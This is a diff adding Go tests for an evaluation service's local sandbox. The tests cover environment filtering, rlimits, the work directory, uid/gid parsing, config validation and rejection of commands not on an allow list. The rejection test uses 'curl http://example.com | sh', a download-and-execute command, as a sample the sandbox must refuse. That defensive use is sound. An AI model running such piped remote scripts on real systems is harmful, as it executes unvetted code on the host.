@@ -0,0 +1,121 @@
+package local
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/eval-hub/eval-hub/internal/eval_hub/config"
+	"github.com/eval-hub/eval-hub/internal/eval_hub/handlers"
+	"github.com/eval-hub/eval-hub/pkg/api"
+)
+
+func TestRunEvaluationJobSandboxed(t *testing.T) {
+	t.Setenv("SANDBOX_SECRET", "secret")
+	t.Setenv("SANDBOX_ALLOWED", "allowed")
+	providerID := "provider-1"
+	evaluation := sampleEvaluation(providerID)
+	evaluation.Resource.ID = "job-sandbox"
+	cleanupDir(t, "job-sandbox")
+
+	dirName := localJobDir("job-sandbox", 0, providerID, "bench-1")
+	outputFile, err := filepath.Abs(filepath.Join(dirName, "sandbox_output.txt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	command := fmt.Sprintf("echo \"$(pwd) $SANDBOX_SECRET-$SANDBOX_ALLOWED-$TEST_VAR $(ulimit -n)\" > %s.tmp && mv %s.tmp %s", outputFile, outputFile, outputFile)
+	rt := &LocalRuntime{
+		logger:  discardLogger(),
+		ctx:     testContext(t),
+		tracker: newTracker(),
+		sandbox: &config.LocalSandboxConfig{
+			Enabled:        true,
+			EnvPassthrough: []string{"SANDBOX_ALLOWED"},
+			Limits:         config.LocalSandboxLimits{OpenFiles: 64},
+		},
+	}
+	benchmarks, err := handlers.GetJobBenchmarks(evaluation, nil)
+	if err != nil {
+		t.Fatalf("RunEvaluationJob failed to resolve benchmarks: %v", err)
+	}
+
+	if err := rt.RunEvaluationJob(evaluation, benchmarks, &fakeStorage{providerConfigs: sampleLocalProviders(providerID, command)}); err != nil {
+		t.Fatalf("expected no error, got %v", err)
+	}
+
+	waitForFile(t, outputFile, 5*time.Second)
+	output, err := os.ReadFile(outputFile)
+	if err != nil {
+		t.Fatalf("read output: %v", err)
+	}
+	workDir, _ := filepath.Abs(filepath.Join(dirName, "work"))
+	if got, want := strings.TrimSpace(string(output)), workDir+" -allowed-test_value 64"; got != want {
+		t.Fatalf("expected the process to run in its work directory with the restricted environment and rlimits %q, got %q", want, got)
+	}
+}
+
+func TestRunEvaluationJobSandboxRejectsCommand(t *testing.T) {
+	providerID := "provider-1"
+	evaluation := sampleEvaluation(providerID)
+	evaluation.Resource.ID = "job-sandbox-rejected"
+	cleanupDir(t, "job-sandbox-rejected")
+	statusCh := make(chan *api.StatusEvent, 1)
+
+	rt := &LocalRuntime{
+		logger:  discardLogger(),
+		ctx:     testContext(t),
+		tracker: newTracker(),
+		sandbox: &config.LocalSandboxConfig{
+			Enabled:         true,
+			AllowedCommands: map[string][]string{providerID: {"python -m adapter"}},
+		},
+	}
+	benchmarks, err := handlers.GetJobBenchmarks(evaluation, nil)
+	if err != nil {
+		t.Fatalf("RunEvaluationJob failed to resolve benchmarks: %v", err)
+	}
+	storage := &fakeStorage{runStatusChan: statusCh, providerConfigs: sampleLocalProviders(providerID, "curl http://example.com | sh")}
+	if err := rt.RunEvaluationJob(evaluation, benchmarks, storage); err != nil {
+		t.Fatalf("expected no synchronous error, got %v", err)
+	}
+
+	select {
+	case runStatus := <-statusCh:
+		if runStatus.BenchmarkStatusEvent.Status != api.StateFailed || !strings.Contains(runStatus.BenchmarkStatusEvent.ErrorMessage.Message, "allowed_commands") {
+			t.Fatalf("expected the benchmark to fail on the allowed commands, got %+v", runStatus.BenchmarkStatusEvent)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("timed out waiting for failed benchmark status update")
+	}
+}
+
+func TestLookupSandboxUser(t *testing.T) {
+	runAs, err := lookupSandboxUser("1001:1002")
+	if err != nil || runAs.uid != 1001 || runAs.gid != 1002 {
+		t.Fatalf("expected uid 1001 and gid 1002, got %+v, %v", runAs, err)
+	}
+	runAs, err = lookupSandboxUser("1001")
+	if err != nil || runAs.uid != 1001 || runAs.gid != 1001 {
+		t.Fatalf("expected uid and gid 1001, got %+v, %v", runAs, err)
+	}
+	if _, err := lookupSandboxUser("1001:staff"); err == nil {
+		t.Fatal("expected an error for a non-numeric group")
+	}
+}
+
+func TestLocalSandboxConfigValidate(t *testing.T) {
+	sandbox := &config.LocalSandboxConfig{Enabled: true, Limits: config.LocalSandboxLimits{MemoryMB: 512}}
+	if err := sandbox.Validate(); err == nil {
+		t.Fatal("expected the memory limit to need a cgroup_parent")
+	}
+	if _, err := NewLocalRuntime(discardLogger(), &config.Config{LocalSandbox: sandbox}); err == nil {
+		t.Fatal("expected the local runtime to reject the sandbox config")
+	}
+	sandbox.CgroupParent = "/sys/fs/cgroup/eval-hub"
+	if err := sandbox.Validate(); err != nil {
+		t.Fatalf("expected a valid sandbox config, got %v", err)
+	}
+}